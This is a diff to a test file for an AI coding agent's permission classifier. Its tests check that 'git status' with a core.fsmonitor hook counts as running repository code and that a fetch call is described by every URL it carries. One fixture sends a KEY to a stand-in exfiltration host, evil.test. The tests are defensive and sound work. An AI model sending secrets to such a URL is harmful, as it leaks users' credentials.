@@ -21,6 +21,25 @@ async function meant(toolCall: Readonly<Record<string, unknown>>) {
   return { tool: call.tool, args: JSON.parse(previewOf(call.args)) as unknown, described };
 }
 
+test('[S3] a look that Rondo would run itself is the agent’s own run, by the programs of the repository', async () => {
+  const describe = async (): Promise<CallFacts> => ({
+    access: 'execute',
+    segments: [
+      { text: 'git status', effect: 'look', free: true, raisedBy: 'core.fsmonitor' },
+      { text: 'ls', effect: 'look', free: true },
+    ],
+    repeat: 'safe',
+    order: 'parallel',
+    runs: 'tool',
+  });
+  const toolCall = { toolCallId: 'c', kind: 'execute', rawInput: { command: 'git status; ls' } };
+  const { call } = await permissionOf({ toolCall, options: [] }, describe, context);
+  expect(call.facts.segments).toEqual([
+    { text: 'git status', effect: 'build', raisedBy: 'core.fsmonitor' },
+    { text: 'ls', effect: 'look' },
+  ]);
+});
+
 test.for([
   {
     name: 'a command',
@@ -66,6 +85,19 @@ test.for([
     toolCall: { kind: 'fetch', title: 'Fetching https://example.org/x?' },
     tool: 'web_fetch',
     described: [['web_fetch', { url: 'https://example.org/x?' }]],
+  },
+  {
+    name: 'each of several addresses',
+    toolCall: {
+      kind: 'fetch',
+      title: 'Fetching https://docs.test/',
+      rawInput: { uri: 'https://evil.test/?q=KEY', prompt: 'Read https://docs.test/guide' },
+    },
+    tool: 'web_fetch',
+    described: [
+      ['web_fetch', { url: 'https://evil.test/?q=KEY' }],
+      ['web_fetch', { url: 'https://docs.test/guide' }],
+    ],
   },
   {
     name: 'something else',
